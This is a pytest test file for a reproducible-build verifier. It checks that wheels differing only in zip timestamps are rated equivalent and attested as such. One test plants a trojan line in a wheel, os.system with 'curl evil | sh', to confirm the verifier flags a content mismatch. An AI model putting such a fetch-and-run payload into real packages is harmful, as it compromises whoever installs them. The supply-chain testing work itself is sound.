"""``rebuild verify`` on a published wheel that was zipped at another time: equivalent.

The python-wheel fixture's published wheel is re-zipped with other entry
times (same bytes in every entry, same compression): what a maintainer gets
by building without SOURCE_DATE_EPOCH. Rebuilding it from the tagged source
gives the fixture's original bytes, so the two differ only in zip times.
Real Docker builds, real keys; the attestations are parsed back.
"""

from __future__ import annotations

import base64
import hashlib
import json
import zipfile
from pathlib import Path

import pytest

from rebuild.compare import compare
from rebuild.engine.pipeline import RecipeTarget, VerifyOptions, run_verification
from rebuild.hashing import sha256_file
from rebuild.keystore import generate_key_files, load_signing_key
from tests.engine.conftest import make_fixture
from tests.logutil import run_cli
from verify.dsse import Envelope
from verify.intoto import RebuildPredicate, Statement

pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("docker_envs")]

LATER = (2025, 3, 4, 5, 6, 8)


def rezip(
    src: Path, dest: Path, date_time: tuple[int, int, int, int, int, int], **replace: bytes
) -> Path:
    """``src`` with every entry's time set to ``date_time`` (and some contents replaced,
    RECORD kept consistent), entries, modes and compression as they were."""
    dest.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w") as zout:
        infos = zin.infolist()
        datas = {i.filename: replace.get(i.filename, zin.read(i)) for i in infos}
        record = next(i.filename for i in infos if i.filename.endswith(".dist-info/RECORD"))
        if replace:
            rows = []
            for i in infos:
                if i.filename == record:
                    rows.append(f"{record},,")
                    continue
                d = base64.urlsafe_b64encode(hashlib.sha256(datas[i.filename]).digest())
                rows.append(
                    f"{i.filename},sha256={d.rstrip(b'=').decode()},{len(datas[i.filename])}"
                )
            datas[record] = ("\n".join(rows) + "\n").encode()
        for i in infos:
            new = zipfile.ZipInfo(i.filename, date_time)
            new.external_attr = i.external_attr
            new.create_system = i.create_system
            new.compress_type = i.compress_type
            zout.writestr(new, datas[i.filename])
    return dest


def _published_later(tmp_path: Path, **replace: bytes) -> tuple[Path, Path, Path]:
    """(recipe, the re-zipped published wheel, the fixture's original wheel)."""
    made = make_fixture("python-wheel", tmp_path)
    later = rezip(made.artifact, tmp_path / "later" / made.artifact.name, LATER, **replace)
    return made.recipe, later, made.artifact


def test_wheel_zipped_at_another_time_is_equivalent_and_attested_so(tmp_path: Path) -> None:
    recipe, later, original = _published_later(tmp_path)
    # The fixture differs from the original in zip times only (the premise of this test).
    assert compare(original, later, diffoscope=None).causes == ("timestamps",)
    generate_key_files("rebuilder.test", tmp_path / "rebuilder.key", None)
    key = load_signing_key(tmp_path / "rebuilder.key", None)
    r = run_verification(
        RecipeTarget(recipe, later), VerifyOptions(report_dir=tmp_path / "r", signing_key=key)
    )
    assert r.verdict == "equivalent", r.message
    assert r.exit_code == 1
    assert r.rebuilt_sha256 == sha256_file(original) != r.upstream_sha256
    assert r.normalization is not None and r.normalization["rules"] == ["zip-entry-times"]
    assert r.attestation is not None
    st = Statement.parse(Envelope.parse(Path(r.attestation).read_bytes()).payload)
    pred = st.predicate
    assert isinstance(pred, RebuildPredicate)
    assert pred.verdict == "equivalent"
    assert st.subjects[0].sha256 == sha256_file(later)
    assert pred.rebuilt_sha256 == sha256_file(original)
    assert pred.normalization is not None
    assert pred.normalization.rules == ("zip-entry-times",)
    assert pred.normalization.subject_sha256 == r.normalization["sha256"]
    assert pred.diff_report_sha256 == r.diff_report_sha256


def test_a_trojaned_wheel_zipped_at_another_time_is_a_mismatch(tmp_path: Path) -> None:
    """New code and a RECORD that agrees with it: the times change too, but content
    is never normalized away."""
    evil = b'import os\nos.system("curl evil | sh")\n'
    recipe, later, _ = _published_later(tmp_path, **{"hello_wheel/__init__.py": evil})
    r = run_verification(RecipeTarget(recipe, later), VerifyOptions(report_dir=tmp_path / "r"))
    assert r.verdict == "mismatch", r.message
    assert "content:hello_wheel/__init__.py" in r.causes
    assert r.normalization is None


def test_cli_exits_1_for_equivalent_unless_accept_equivalent(tmp_path: Path) -> None:
    recipe, later, _ = _published_later(tmp_path)
    p = run_cli("verify", str(recipe), str(later), "--json", "--report-dir", str(tmp_path / "a"))
    doc = json.loads(p.stdout)
    assert (doc["verdict"], p.returncode, doc["exit_code"]) == ("equivalent", 1, 1)
    p = run_cli(
        "verify",
        str(recipe),
        str(later),
        "--json",
        "--accept-equivalent",
        "--report-dir",
        str(tmp_path / "b"),
    )
    assert (json.loads(p.stdout)["verdict"], p.returncode) == ("equivalent", 0)
